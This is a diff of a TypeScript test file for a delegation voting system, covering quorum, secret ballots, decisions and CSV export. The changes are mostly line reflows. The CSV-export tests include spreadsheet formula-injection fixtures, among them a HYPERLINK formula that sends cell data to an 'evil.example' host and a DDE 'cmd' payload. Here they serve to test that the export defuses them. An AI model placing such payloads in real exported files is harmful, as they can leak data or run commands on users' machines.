@@ -45,9 +45,22 @@ const def = meetingDefinitionSchema.parse({
   ],
 });
 
-const chair: Principal = { meetingId: 'm1', inviteId: 'inv-chair', role: 'chair', delegationId: null, presenterId: null };
+const chair: Principal = {
+  meetingId: 'm1',
+  inviteId: 'inv-chair',
+  role: 'chair',
+  delegationId: null,
+  presenterId: null,
+};
 const secretariat: Principal = { ...chair, inviteId: 'inv-sec', role: 'secretariat' };
-const head = (d: string): Principal => ({ meetingId: 'm1', inviteId: `inv-${d}`, role: 'delegate', delegationId: d, presenterId: null, seat: 'head' });
+const head = (d: string): Principal => ({
+  meetingId: 'm1',
+  inviteId: `inv-${d}`,
+  role: 'delegate',
+  delegationId: d,
+  presenterId: null,
+  seat: 'head',
+});
 const deputy = (d: string): Principal => ({ ...head(d), inviteId: `inv-${d}-deputy`, seat: 'deputy' });
 
 let ids = 0;
@@ -60,7 +73,11 @@ type Ctx = { now?: number; present?: readonly string[] };
 function run(world: MeetingWorld, cmd: CommandInput, who: Principal, ctx: Ctx = {}) {
   const command = { id: `command-${++cmdIds}`, ...cmd };
   const now = ctx.now ?? 1000;
-  const out = execute(world, who, command, { now, newId: () => `n${++ids}`, presentDelegations: () => ctx.present ?? [] });
+  const out = execute(world, who, command, {
+    now,
+    newId: () => `n${++ids}`,
+    presentDelegations: () => ctx.present ?? [],
+  });
   if (out.ok) log.push({ commandId: command.id, type: command.type, payload: command, at: now, principal: who });
   return out;
 }
@@ -71,9 +88,15 @@ function must(world: MeetingWorld, cmd: CommandInput, who: Principal = chair, ct
   return out.world;
 }
 
-function created(world: MeetingWorld, cmd: CommandInput, who: Principal = chair, ctx: Ctx = {}): { world: MeetingWorld; id: string } {
+function created(
+  world: MeetingWorld,
+  cmd: CommandInput,
+  who: Principal = chair,
+  ctx: Ctx = {},
+): { world: MeetingWorld; id: string } {
   const out = run(world, cmd, who, ctx);
-  if (!out.ok || out.createdId === undefined) throw new Error(`${cmd.type} created nothing: ${out.ok ? '' : out.error.message}`);
+  if (!out.ok || out.createdId === undefined)
+    throw new Error(`${cmd.type} created nothing: ${out.ok ? '' : out.error.message}`);
   return { world: out.world, id: out.createdId };
 }
 
@@ -87,7 +110,15 @@ type PollOptions = Partial<Extract<CommandInput, { type: 'poll.open' }>>;
 function withPoll(opts: PollOptions = {}, ctx: Ctx = {}): { world: MeetingWorld; pollId: string } {
   const { world, id } = created(
     openMeeting(),
-    { type: 'poll.open', proposalId: 'uz-lab-proposal', method: 'vote', secrecy: 'anonymous', majority: 'simple', quorum: 0.5, ...opts },
+    {
+      type: 'poll.open',
+      proposalId: 'uz-lab-proposal',
+      method: 'vote',
+      secrecy: 'anonymous',
+      majority: 'simple',
+      quorum: 0.5,
+      ...opts,
+    },
     chair,
     ctx,
   );
@@ -104,7 +135,9 @@ const tally = (support: number, object: number, abstain = 0) => ({ support, obje
 
 describe('counting rules', () => {
   it('tallies each choice', () => {
-    expect(tallyOf([{ choice: 'support' }, { choice: 'object' }, { choice: 'support' }, { choice: 'abstain' }])).toEqual(tally(2, 1, 1));
+    expect(
+      tallyOf([{ choice: 'support' }, { choice: 'object' }, { choice: 'support' }, { choice: 'abstain' }]),
+    ).toEqual(tally(2, 1, 1));
     expect(tallyOf([])).toEqual(tally(0, 0, 0));
   });
 
@@ -146,8 +179,20 @@ describe('counting rules', () => {
     const ballots = { uz: { choice: 'support' as const, at: 1, inviteId: 'x', commandId: 'c1' } };
     // 6 entitled → 3 required. uz voted and left; kz, az connected; a stranger is ignored.
     const r = pollResult(poll, ballots, ['kz', 'az', 'nobody'], 5000);
-    expect(r).toMatchObject({ entitled: 6, present: 3, presentDelegations: ['uz', 'kz', 'az'], voted: 1, quorumRequired: 3, quorumMet: true, outcome: 'passed' });
-    expect(pollResult(poll, ballots, ['kz'], 5000)).toMatchObject({ present: 2, quorumMet: false, outcome: 'no_quorum' });
+    expect(r).toMatchObject({
+      entitled: 6,
+      present: 3,
+      presentDelegations: ['uz', 'kz', 'az'],
+      voted: 1,
+      quorumRequired: 3,
+      quorumMet: true,
+      outcome: 'passed',
+    });
+    expect(pollResult(poll, ballots, ['kz'], 5000)).toMatchObject({
+      present: 2,
+      quorumMet: false,
+      outcome: 'no_quorum',
+    });
   });
 });
 
@@ -161,15 +206,35 @@ describe('a poll on a proposal', () => {
     world = must(world, { type: 'poll.vote', pollId, choice: 'support' }, head('kz'), { now: 2300 }); // kz changes its mind
     const open = pollOf(world, pollId);
     expect(open).toMatchObject({ status: 'open', votedCount: 3, tally: null, rollCall: {}, result: null });
-    expect(world.secret.ballots[pollId]?.kz).toEqual({ choice: 'support', at: 2300, inviteId: 'inv-kz', commandId: expect.any(String) });
+    expect(world.secret.ballots[pollId]?.kz).toEqual({
+      choice: 'support',
+      at: 2300,
+      inviteId: 'inv-kz',
+      commandId: expect.any(String),
+    });
     // Nothing of any delegation's choice is in the public record.
     const publicJson = JSON.stringify(world.state.votes.polls);
     for (const choice of BALLOT_CHOICES) expect(publicJson).not.toContain(choice);
 
     world = must(world, { type: 'poll.close', pollId }, chair, { now: 3000, present: ['uz', 'kz', 'az'] });
     const closed = pollOf(world, pollId);
-    expect(closed).toMatchObject({ status: 'closed', closedAt: 3000, closedBy: 'chair', tally: tally(2, 0, 1), rollCall: {} });
-    expect(closed.result).toMatchObject({ entitled: 6, present: 3, voted: 3, tally: tally(2, 0, 1), quorumRequired: 3, quorumMet: true, majorityMet: true, outcome: 'passed' });
+    expect(closed).toMatchObject({
+      status: 'closed',
+      closedAt: 3000,
+      closedBy: 'chair',
+      tally: tally(2, 0, 1),
+      rollCall: {},
+    });
+    expect(closed.result).toMatchObject({
+      entitled: 6,
+      present: 3,
+      voted: 3,
+      tally: tally(2, 0, 1),
+      quorumRequired: 3,
+      quorumMet: true,
+      majorityMet: true,
+      outcome: 'passed',
+    });
     expect(world.state.votes.openPollId).toBeNull();
   });
 
@@ -178,7 +243,11 @@ describe('a poll on a proposal', () => {
     let world = start;
     world = must(world, { type: 'poll.vote', pollId, choice: 'support' }, head('uz'), { now: 2000 });
     world = must(world, { type: 'poll.vote', pollId, choice: 'object' }, head('kz'), { now: 2001 });
-    expect(pollOf(world, pollId)).toMatchObject({ votedCount: 2, tally: tally(1, 1), rollCall: { uz: { choice: 'support', at: 2000 }, kz: { choice: 'object', at: 2001 } } });
+    expect(pollOf(world, pollId)).toMatchObject({
+      votedCount: 2,
+      tally: tally(1, 1),
+      rollCall: { uz: { choice: 'support', at: 2000 }, kz: { choice: 'object', at: 2001 } },
+    });
     world = must(world, { type: 'poll.close', pollId }, chair, { present: DELEGATIONS });
     // 1–1 is a tie: a simple majority fails.
     expect(pollOf(world, pollId).result).toMatchObject({ quorumMet: true, majorityMet: false, outcome: 'failed' });
@@ -189,7 +258,13 @@ describe('a poll on a proposal', () => {
     let world = start;
     world = must(world, { type: 'poll.vote', pollId, choice: 'support' }, head('uz'));
     world = must(world, { type: 'poll.close', pollId }, chair, { present: ['kz'] });
-    expect(pollOf(world, pollId).result).toMatchObject({ present: 2, quorumRequired: 3, quorumMet: false, majorityMet: true, outcome: 'no_quorum' });
+    expect(pollOf(world, pollId).result).toMatchObject({
+      present: 2,
+      quorumRequired: 3,
+      quorumMet: false,
+      majorityMet: true,
+      outcome: 'no_quorum',
+    });
   });
 
   it('refuses ballots on a closed or unknown poll, changing nothing', () => {
@@ -197,36 +272,66 @@ describe('a poll on a proposal', () => {
     let world = start;
     world = must(world, { type: 'poll.vote', pollId, choice: 'support' }, head('uz'));
     world = must(world, { type: 'poll.close', pollId }, chair);
-    expect(run(world, { type: 'poll.vote', pollId, choice: 'object' }, head('uz'))).toMatchObject({ ok: false, error: { code: 'conflict', reason: 'poll_closed' } });
-    expect(run(world, { type: 'poll.vote', pollId: 'nope', choice: 'object' }, head('uz'))).toMatchObject({ ok: false, error: { code: 'conflict', reason: 'poll_not_found' } });
+    expect(run(world, { type: 'poll.vote', pollId, choice: 'object' }, head('uz'))).toMatchObject({
+      ok: false,
+      error: { code: 'conflict', reason: 'poll_closed' },
+    });
+    expect(run(world, { type: 'poll.vote', pollId: 'nope', choice: 'object' }, head('uz'))).toMatchObject({
+      ok: false,
+      error: { code: 'conflict', reason: 'poll_not_found' },
+    });
     expect(world.secret.ballots[pollId]?.uz?.choice).toBe('support');
-    expect(run(world, { type: 'poll.close', pollId }, chair)).toMatchObject({ ok: false, error: { reason: 'poll_closed' } });
+    expect(run(world, { type: 'poll.close', pollId }, chair)).toMatchObject({
+      ok: false,
+      error: { reason: 'poll_closed' },
+    });
   });
 
   it('refuses ballots from anyone but the designated voter of a delegation on the roster', () => {
     const { world, pollId } = withPoll();
     const stranger: Principal = { ...head('xx'), delegationId: 'xx' };
-    expect(run(world, { type: 'poll.vote', pollId, choice: 'support' }, deputy('uz'))).toMatchObject({ ok: false, error: { code: 'forbidden' } });
-    expect(run(world, { type: 'poll.vote', pollId, choice: 'support' }, stranger)).toMatchObject({ ok: false, error: { code: 'forbidden' } });
-    expect(run(world, { type: 'poll.vote', pollId, choice: 'support' }, chair)).toMatchObject({ ok: false, error: { code: 'forbidden' } });
-    expect(run(world, { type: 'poll.vote', pollId, choice: 'support' }, { ...secretariat })).toMatchObject({ ok: false, error: { code: 'forbidden' } });
+    expect(run(world, { type: 'poll.vote', pollId, choice: 'support' }, deputy('uz'))).toMatchObject({
+      ok: false,
+      error: { code: 'forbidden' },
+    });
+    expect(run(world, { type: 'poll.vote', pollId, choice: 'support' }, stranger)).toMatchObject({
+      ok: false,
+      error: { code: 'forbidden' },
+    });
+    expect(run(world, { type: 'poll.vote', pollId, choice: 'support' }, chair)).toMatchObject({
+      ok: false,
+      error: { code: 'forbidden' },
+    });
+    expect(run(world, { type: 'poll.vote', pollId, choice: 'support' }, { ...secretariat })).toMatchObject({
+      ok: false,
+      error: { code: 'forbidden' },
+    });
   });
 
   it('lets the head hand the right to the deputy and take it back; the deputy cannot take it', () => {
     const { world: start, pollId } = withPoll();
     let world = start;
     expect(world.state.votes.voterSeats.uz).toBe('head');
-    expect(run(world, { type: 'voter.designate', seat: 'deputy' }, deputy('uz'))).toMatchObject({ ok: false, error: { code: 'forbidden' } });
+    expect(run(world, { type: 'voter.designate', seat: 'deputy' }, deputy('uz'))).toMatchObject({
+      ok: false,
+      error: { code: 'forbidden' },
+    });
     world = must(world, { type: 'poll.vote', pollId, choice: 'object' }, head('uz'));
     world = must(world, { type: 'voter.designate', seat: 'deputy' }, head('uz'));
     expect(world.state.votes.voterSeats.uz).toBe('deputy');
-    expect(run(world, { type: 'poll.vote', pollId, choice: 'support' }, head('uz'))).toMatchObject({ ok: false, error: { code: 'forbidden' } });
+    expect(run(world, { type: 'poll.vote', pollId, choice: 'support' }, head('uz'))).toMatchObject({
+      ok: false,
+      error: { code: 'forbidden' },
+    });
     // The deputy changes the delegation's one ballot; it does not add a second.
     world = must(world, { type: 'poll.vote', pollId, choice: 'support' }, deputy('uz'));
     expect(pollOf(world, pollId).votedCount).toBe(1);
     expect(world.secret.ballots[pollId]?.uz).toMatchObject({ choice: 'support', inviteId: 'inv-uz-deputy' });
     world = must(world, { type: 'voter.designate', seat: 'head' }, head('uz'));
-    expect(run(world, { type: 'poll.vote', pollId, choice: 'abstain' }, deputy('uz'))).toMatchObject({ ok: false, error: { code: 'forbidden' } });
+    expect(run(world, { type: 'poll.vote', pollId, choice: 'abstain' }, deputy('uz'))).toMatchObject({
+      ok: false,
+      error: { code: 'forbidden' },
+    });
     // A token without a seat (issued before seats existed) is the head's.
     const { seat: _seat, ...legacy } = head('uz');
     expect(run(world, { type: 'poll.vote', pollId, choice: 'abstain' }, legacy).ok).toBe(true);
@@ -234,11 +339,20 @@ describe('a poll on a proposal', () => {
 
   it('keeps one poll open at a time, and only when the meeting is open', () => {
     const { world } = withPoll();
-    const again = { type: 'poll.open', proposalId: 'uz-lab-proposal', method: 'vote', secrecy: 'anonymous', quorum: 0 } as const;
+    const again = {
+      type: 'poll.open',
+      proposalId: 'uz-lab-proposal',
+      method: 'vote',
+      secrecy: 'anonymous',
+      quorum: 0,
+    } as const;
     expect(run(world, again, chair)).toMatchObject({ ok: false, error: { reason: 'poll_already_open' } });
     const scheduled = { state: initialState('m1', def), secret: initialSecret() };
     expect(run(scheduled, again, chair)).toMatchObject({ ok: false, error: { reason: 'meeting_not_open' } });
-    expect(run(openMeeting(), { ...again, proposalId: 'nope' }, chair)).toMatchObject({ ok: false, error: { reason: 'proposal_not_found' } });
+    expect(run(openMeeting(), { ...again, proposalId: 'nope' }, chair)).toMatchObject({
+      ok: false,
+      error: { reason: 'proposal_not_found' },
+    });
     expect(run(openMeeting(), again, secretariat)).toMatchObject({ ok: false, error: { code: 'forbidden' } });
     expect(run(openMeeting(), again, head('uz'))).toMatchObject({ ok: false, error: { code: 'forbidden' } });
   });
@@ -253,13 +367,28 @@ describe('a poll on a proposal', () => {
 });
 
 describe('the no-objection procedure', () => {
-  const noObjection = { method: 'no_objection', secrecy: 'roll_call', majority: 'consensus', durationSeconds: 60, quorum: 0 } as const;
+  const noObjection = {
+    method: 'no_objection',
+    secrecy: 'roll_call',
+    majority: 'consensus',
+    durationSeconds: 60,
+    quorum: 0,
+  } as const;
 
   it('needs a countdown and is always consensus', () => {
     const w = openMeeting();
-    const base = { type: 'poll.open', proposalId: 'uz-lab-proposal', method: 'no_objection', secrecy: 'anonymous', quorum: 0 } as const;
+    const base = {
+      type: 'poll.open',
+      proposalId: 'uz-lab-proposal',
+      method: 'no_objection',
+      secrecy: 'anonymous',
+      quorum: 0,
+    } as const;
     expect(run(w, base, chair)).toMatchObject({ ok: false, error: { code: 'invalid' } });
-    expect(run(w, { ...base, durationSeconds: 60, majority: 'simple' }, chair)).toMatchObject({ ok: false, error: { code: 'invalid' } });
+    expect(run(w, { ...base, durationSeconds: 60, majority: 'simple' }, chair)).toMatchObject({
+      ok: false,
+      error: { code: 'invalid' },
+    });
     const { world, pollId } = withPoll({ ...noObjection, majority: undefined }, { now: 10_000 });
     expect(pollOf(world, pollId)).toMatchObject({ majority: 'consensus', openedAt: 10_000, closesAt: 70_000 });
   });
@@ -267,15 +396,26 @@ describe('the no-objection procedure', () => {
   it('takes objections until just before the deadline and refuses them from the deadline on', () => {
     const { world, pollId } = withPoll(noObjection, { now: 10_000 });
     expect(run(world, { type: 'poll.vote', pollId, choice: 'object' }, head('kz'), { now: 69_999 }).ok).toBe(true);
-    expect(run(world, { type: 'poll.vote', pollId, choice: 'object' }, head('kz'), { now: 70_000 })).toMatchObject({ ok: false, error: { reason: 'poll_closed' } });
-    expect(run(world, { type: 'poll.vote', pollId, choice: 'object' }, head('kz'), { now: 90_000 })).toMatchObject({ ok: false, error: { reason: 'poll_closed' } });
+    expect(run(world, { type: 'poll.vote', pollId, choice: 'object' }, head('kz'), { now: 70_000 })).toMatchObject({
+      ok: false,
+      error: { reason: 'poll_closed' },
+    });
+    expect(run(world, { type: 'poll.vote', pollId, choice: 'object' }, head('kz'), { now: 90_000 })).toMatchObject({
+      ok: false,
+      error: { reason: 'poll_closed' },
+    });
   });
 
   it('passes at the deadline when nobody objects, closed by the server itself', () => {
     const { world, pollId } = withPoll(noObjection, { now: 10_000 });
     const closed = must(world, { type: 'poll.close', pollId }, systemPrincipal('m1'), { now: 70_000 });
     expect(pollOf(closed, pollId)).toMatchObject({ status: 'closed', closedBy: 'deadline', closedAt: 70_000 });
-    expect(pollOf(closed, pollId).result).toMatchObject({ voted: 0, tally: tally(0, 0), majorityMet: true, outcome: 'passed' });
+    expect(pollOf(closed, pollId).result).toMatchObject({
+      voted: 0,
+      tally: tally(0, 0),
+      majorityMet: true,
+      outcome: 'passed',
+    });
   });
 
   it('fails when a single delegation objects', () => {
@@ -305,17 +445,31 @@ describe('replaying the log rebuilds the secret ballots', () => {
     run(world, { type: 'poll.vote', pollId, choice: 'abstain' }, deputy('kz')); // refused: not logged
     world = must(world, { type: 'poll.vote', pollId, choice: 'abstain' }, head('kz'), { now: 2002 });
     world = must(world, { type: 'poll.close', pollId }, chair);
-    const { world: w2, id: second } = created(world, { type: 'poll.open', proposalId: 'uz-lab-proposal', method: 'vote', secrecy: 'roll_call', quorum: 0 });
+    const { world: w2, id: second } = created(world, {
+      type: 'poll.open',
+      proposalId: 'uz-lab-proposal',
+      method: 'vote',
+      secrecy: 'roll_call',
+      quorum: 0,
+    });
     must(w2, { type: 'poll.vote', pollId: second, choice: 'object' }, head('az'), { now: 3000 });
-    const replayed = replaySecret([...log, { commandId: 'junk-1', type: 'poll.vote', payload: { nonsense: true }, at: 1, principal: head('it') }]);
+    const replayed = replaySecret([
+      ...log,
+      { commandId: 'junk-1', type: 'poll.vote', payload: { nonsense: true }, at: 1, principal: head('it') },
+    ]);
     expect(replayed.ballots[pollId]).toEqual(world.secret.ballots[pollId]);
-    expect(replayed.ballots[second]).toEqual({ az: { choice: 'object', at: 3000, inviteId: 'inv-az', commandId: expect.any(String) } });
+    expect(replayed.ballots[second]).toEqual({
+      az: { choice: 'object', at: 3000, inviteId: 'inv-az', commandId: expect.any(String) },
+    });
     expect(replayed.ballots[pollId]?.kz?.choice).toBe('abstain');
     expect(replayed.ballots[pollId]?.it).toBeUndefined();
   });
 
   it('for any sequence of ballots, the tally is the last choice of each delegation, live and replayed', () => {
-    const ballot = fc.record({ d: fc.constantFrom(...DELEGATIONS), choice: fc.constantFrom<BallotChoice>(...BALLOT_CHOICES) });
+    const ballot = fc.record({
+      d: fc.constantFrom(...DELEGATIONS),
+      choice: fc.constantFrom<BallotChoice>(...BALLOT_CHOICES),
+    });
     fc.assert(
       fc.property(fc.array(ballot, { maxLength: 40 }), (ballots) => {
         const { world: start, pollId } = withPoll({ secrecy: 'anonymous', quorum: 0 });
@@ -351,23 +505,62 @@ describe('proposals', () => {
     });
     expect(bad.success).toBe(false);
     const messages = bad.success ? [] : bad.error.issues.map((i) => i.message);
-    expect(messages).toEqual(expect.arrayContaining([expect.stringContaining('unknown agenda item "nope"'), expect.stringContaining('unknown sponsor "xx"'), expect.stringContaining('duplicate proposal id "p"')]));
+    expect(messages).toEqual(
+      expect.arrayContaining([
+        expect.stringContaining('unknown agenda item "nope"'),
+        expect.stringContaining('unknown sponsor "xx"'),
+        expect.stringContaining('duplicate proposal id "p"'),
+      ]),
+    );
   });
 
   it('are added and edited live by the chair or secretariat, but not while under vote', () => {
     let w = openMeeting();
-    const add = { type: 'proposal.add', agendaItemId: 'aob', title: { en: 'New', ru: 'Новое' }, text: { en: 'Text', ru: 'Текст' } } as const;
+    const add = {
+      type: 'proposal.add',
+      agendaItemId: 'aob',
+      title: { en: 'New', ru: 'Новое' },
+      text: { en: 'Text', ru: 'Текст' },
+    } as const;
     expect(run(w, add, head('uz'))).toMatchObject({ ok: false, error: { code: 'forbidden' } });
-    expect(run(w, { ...add, agendaItemId: 'nope' }, secretariat)).toMatchObject({ ok: false, error: { reason: 'item_not_found' } });
-    expect(run(w, { ...add, sponsorDelegationId: 'xx' }, secretariat)).toMatchObject({ ok: false, error: { code: 'invalid' } });
-    const { world, id } = created(w, { ...add, documents: [{ title: { en: 'Doc', ru: 'Док' }, url: 'https://example.org/doc.pdf' }] }, secretariat);
+    expect(run(w, { ...add, agendaItemId: 'nope' }, secretariat)).toMatchObject({
+      ok: false,
+      error: { reason: 'item_not_found' },
+    });
+    expect(run(w, { ...add, sponsorDelegationId: 'xx' }, secretariat)).toMatchObject({
+      ok: false,
+      error: { code: 'invalid' },
+    });
+    const { world, id } = created(
+      w,
+      { ...add, documents: [{ title: { en: 'Doc', ru: 'Док' }, url: 'https://example.org/doc.pdf' }] },
+      secretariat,
+    );
     w = world;
     expect(w.state.votes.proposalOrder).toEqual(['uz-lab-proposal', id]);
     w = must(w, { type: 'proposal.edit', proposalId: id, title: { en: 'Renamed', ru: 'Переименовано' } }, chair);
-    expect(w.state.votes.proposals[id]).toMatchObject({ title: { en: 'Renamed' }, text: { en: 'Text' }, documents: [{ url: 'https://example.org/doc.pdf' }] });
-    const { world: voting } = created(w, { type: 'poll.open', proposalId: id, method: 'vote', secrecy: 'anonymous', quorum: 0 });
-    expect(run(voting, { type: 'proposal.edit', proposalId: id, text: { en: 'Changed', ru: 'Изменено' } }, chair)).toMatchObject({ ok: false, error: { reason: 'proposal_in_vote' } });
-    expect(run(voting, { type: 'proposal.edit', proposalId: 'uz-lab-proposal', text: { en: 'Changed', ru: 'Изменено' } }, chair).ok).toBe(true);
+    expect(w.state.votes.proposals[id]).toMatchObject({
+      title: { en: 'Renamed' },
+      text: { en: 'Text' },
+      documents: [{ url: 'https://example.org/doc.pdf' }],
+    });
+    const { world: voting } = created(w, {
+      type: 'poll.open',
+      proposalId: id,
+      method: 'vote',
+      secrecy: 'anonymous',
+      quorum: 0,
+    });
+    expect(
+      run(voting, { type: 'proposal.edit', proposalId: id, text: { en: 'Changed', ru: 'Изменено' } }, chair),
+    ).toMatchObject({ ok: false, error: { reason: 'proposal_in_vote' } });
+    expect(
+      run(
+        voting,
+        { type: 'proposal.edit', proposalId: 'uz-lab-proposal', text: { en: 'Changed', ru: 'Изменено' } },
+        chair,
+      ).ok,
+    ).toBe(true);
   });
 });
 
@@ -377,30 +570,70 @@ describe('decisions', () => {
   it('are recorded from a closed poll, linked to its proposal, and shown for read-back', () => {
     const { world: start, pollId } = withPoll();
     let world = start;
-    expect(run(world, { type: 'decision.record', agendaItemId: 'uz-lab', pollId, text: wording, outcome: 'supported' }, chair)).toMatchObject({
+    expect(
+      run(
+        world,
+        { type: 'decision.record', agendaItemId: 'uz-lab', pollId, text: wording, outcome: 'supported' },
+        chair,
+      ),
+    ).toMatchObject({
       ok: false,
       error: { reason: 'poll_still_open' },
     });
     world = must(world, { type: 'poll.close', pollId }, chair);
-    const { world: w, id } = created(world, { type: 'decision.record', agendaItemId: 'uz-lab', pollId, text: wording, outcome: 'supported' }, chair, { now: 5000 });
-    expect(w.state.votes.decisions[id]).toEqual({ id, agendaItemId: 'uz-lab', proposalId: 'uz-lab-proposal', pollId, text: wording, outcome: 'supported', recordedAt: 5000, updatedAt: null });
+    const { world: w, id } = created(
+      world,
+      { type: 'decision.record', agendaItemId: 'uz-lab', pollId, text: wording, outcome: 'supported' },
+      chair,
+      { now: 5000 },
+    );
+    expect(w.state.votes.decisions[id]).toEqual({
+      id,
+      agendaItemId: 'uz-lab',
+      proposalId: 'uz-lab-proposal',
+      pollId,
+      text: wording,
+      outcome: 'supported',
+      recordedAt: 5000,
+      updatedAt: null,
+    });
     const shown = must(w, { type: 'decision.readBack', decisionId: id }, chair);
     expect(shown.state.votes.readBack).toBe(id);
     expect(must(shown, { type: 'decision.readBack', decisionId: null }, chair).state.votes.readBack).toBeNull();
-    expect(run(w, { type: 'decision.readBack', decisionId: id }, secretariat)).toMatchObject({ ok: false, error: { code: 'forbidden' } });
-    expect(run(w, { type: 'decision.readBack', decisionId: 'nope' }, chair)).toMatchObject({ ok: false, error: { reason: 'decision_not_found' } });
+    expect(run(w, { type: 'decision.readBack', decisionId: id }, secretariat)).toMatchObject({
+      ok: false,
+      error: { code: 'forbidden' },
+    });
+    expect(run(w, { type: 'decision.readBack', decisionId: 'nope' }, chair)).toMatchObject({
+      ok: false,
+      error: { reason: 'decision_not_found' },
+    });
     const edited = must(w, { type: 'decision.edit', decisionId: id, outcome: 'adopted' }, secretariat, { now: 6000 });
     expect(edited.state.votes.decisions[id]).toMatchObject({ outcome: 'adopted', text: wording, updatedAt: 6000 });
   });
 
   it('exist without a vote, and refuse unknown references', () => {
     const w = openMeeting();
-    const noted = { type: 'decision.record', agendaItemId: 'aob', text: { en: 'The meeting took note of the report.', ru: 'Участники приняли доклад к сведению.' }, outcome: 'noted' } as const;
+    const noted = {
+      type: 'decision.record',
+      agendaItemId: 'aob',
+      text: { en: 'The meeting took note of the report.', ru: 'Участники приняли доклад к сведению.' },
+      outcome: 'noted',
+    } as const;
     const { world, id } = created(w, noted, secretariat);
     expect(world.state.votes.decisions[id]).toMatchObject({ proposalId: null, pollId: null, outcome: 'noted' });
-    expect(run(w, { ...noted, agendaItemId: 'nope' }, chair)).toMatchObject({ ok: false, error: { reason: 'item_not_found' } });
-    expect(run(w, { ...noted, pollId: 'nope' }, chair)).toMatchObject({ ok: false, error: { reason: 'poll_not_found' } });
-    expect(run(w, { ...noted, proposalId: 'nope' }, chair)).toMatchObject({ ok: false, error: { reason: 'proposal_not_found' } });
+    expect(run(w, { ...noted, agendaItemId: 'nope' }, chair)).toMatchObject({
+      ok: false,
+      error: { reason: 'item_not_found' },
+    });
+    expect(run(w, { ...noted, pollId: 'nope' }, chair)).toMatchObject({
+      ok: false,
+      error: { reason: 'poll_not_found' },
+    });
+    expect(run(w, { ...noted, proposalId: 'nope' }, chair)).toMatchObject({
+      ok: false,
+      error: { reason: 'proposal_not_found' },
+    });
     expect(run(w, noted, head('uz'))).toMatchObject({ ok: false, error: { code: 'forbidden' } });
   });
 });
@@ -413,30 +646,53 @@ describe('the results export', () => {
     world = must(world, { type: 'voter.designate', seat: 'deputy' }, head('kz'));
     world = must(world, { type: 'poll.vote', pollId, choice: 'abstain' }, deputy('kz'), { now: 2001 });
     const open = resultsExport(world, 2500, (invite) => (invite.endsWith('-deputy') ? 'deputy' : 'head'));
-    expect(open.polls[0]).toMatchObject({ status: 'open', result: null, ballots: null, voters: [{ delegationId: 'uz', at: 2000, castBy: 'head' }, { delegationId: 'kz', at: 2001, castBy: 'deputy' }] });
+    expect(open.polls[0]).toMatchObject({
+      status: 'open',
+      result: null,
+      ballots: null,
+      voters: [
+        { delegationId: 'uz', at: 2000, castBy: 'head' },
+        { delegationId: 'kz', at: 2001, castBy: 'deputy' },
+      ],
+    });
     for (const choice of BALLOT_CHOICES) {
       expect(JSON.stringify(open)).not.toContain(choice);
       // The header names the total columns; no data row may carry a choice.
       expect(resultsCsv(open).split('\r\n').slice(1).join('\n')).not.toContain(choice);
     }
     world = must(world, { type: 'poll.close', pollId }, chair, { now: 3000 });
-    const { world: w2, id: rollCall } = created(world, { type: 'poll.open', proposalId: 'uz-lab-proposal', method: 'vote', secrecy: 'roll_call', quorum: 0 });
+    const { world: w2, id: rollCall } = created(world, {
+      type: 'poll.open',
+      proposalId: 'uz-lab-proposal',
+      method: 'vote',
+      secrecy: 'roll_call',
+      quorum: 0,
+    });
     const w3 = must(w2, { type: 'poll.vote', pollId: rollCall, choice: 'support' }, head('az'), { now: 4000 });
     const report = resultsExport(w3, 5000);
     const anonymous = report.polls[0];
     expect(anonymous?.result?.tally).toEqual(tally(0, 1, 1));
     expect(anonymous?.ballots).toBeNull();
-    expect(report.polls[1]?.ballots).toEqual([{ delegationId: 'az', delegation: { en: 'az', ru: 'az' }, choice: 'support', at: 4000, castBy: null }]);
+    expect(report.polls[1]?.ballots).toEqual([
+      { delegationId: 'az', delegation: { en: 'az', ru: 'az' }, choice: 'support', at: 4000, castBy: null },
+    ]);
     const csv = resultsCsv(report).split('\r\n');
     expect(csv[0]).toMatch(/^record,poll_id,/);
     expect(csv.filter((l) => l.startsWith('voter,'))).toHaveLength(2);
-    expect(csv.filter((l) => l.startsWith('ballot,'))).toEqual([expect.stringContaining(',support,1970-01-01T00:00:04.000Z,')]);
+    expect(csv.filter((l) => l.startsWith('ballot,'))).toEqual([
+      expect.stringContaining(',support,1970-01-01T00:00:04.000Z,'),
+    ]);
     expect(csv.find((l) => l.startsWith('poll,'))).toContain(',closed,');
   });
 
   it('quotes CSV cells and defuses spreadsheet formulas in people-written text', () => {
     const w = openMeeting();
-    const { world } = created(w, { type: 'decision.record', agendaItemId: 'aob', text: { en: '=HYPERLINK("x"), "quoted"', ru: 'Строка\nвторая' }, outcome: 'noted' });
+    const { world } = created(w, {
+      type: 'decision.record',
+      agendaItemId: 'aob',
+      text: { en: '=HYPERLINK("x"), "quoted"', ru: 'Строка\nвторая' },
+      outcome: 'noted',
+    });
     const line = resultsCsv(resultsExport(world, 0));
     expect(line).toContain(`"'=HYPERLINK(""x""), ""quoted"""`);
     expect(line).toContain('"Строка\nвторая"');
@@ -448,14 +704,20 @@ describe('the results export', () => {
     const texts: Array<[string, string]> = [
       ['Noted;=1+1;…', "Noted;'=1+1;…"],
       ['=HYPERLINK("https://evil.example/?"&A1,"Open")', '\'=HYPERLINK("https://evil.example/?"&A1,"Open")'],
-      ['Agreed;-2+3+cmd|\' /C calc\'!A0', "Agreed;'-2+3+cmd|' /C calc'!A0"],
+      ["Agreed;-2+3+cmd|' /C calc'!A0", "Agreed;'-2+3+cmd|' /C calc'!A0"],
       ['Agreed; @SUM(1)\tsee\t+1', "Agreed; '@SUM(1)\tsee\t'+1"],
       ['The meeting:\n- noted the report\r\n=agreed', "The meeting:\n'- noted the report\r\n'=agreed"],
       ['Agreed;"=1+1"', 'Agreed;"\'=1+1"'],
       ['Agreed, +7 (495) 449-77-77; a, b, "c"', 'Agreed, +7 (495) 449-77-77; a, b, "c"'],
     ];
     let world = openMeeting();
-    for (const [text] of texts) world = created(world, { type: 'decision.record', agendaItemId: 'aob', text: { en: text, ru: `${text} (рус.)` }, outcome: 'noted' }).world;
+    for (const [text] of texts)
+      world = created(world, {
+        type: 'decision.record',
+        agendaItemId: 'aob',
+        text: { en: text, ru: `${text} (рус.)` },
+        outcome: 'noted',
+      }).world;
     const csv = resultsCsv(resultsExport(world, 0));
 
     expect(formulaCells(csv)).toEqual([]);
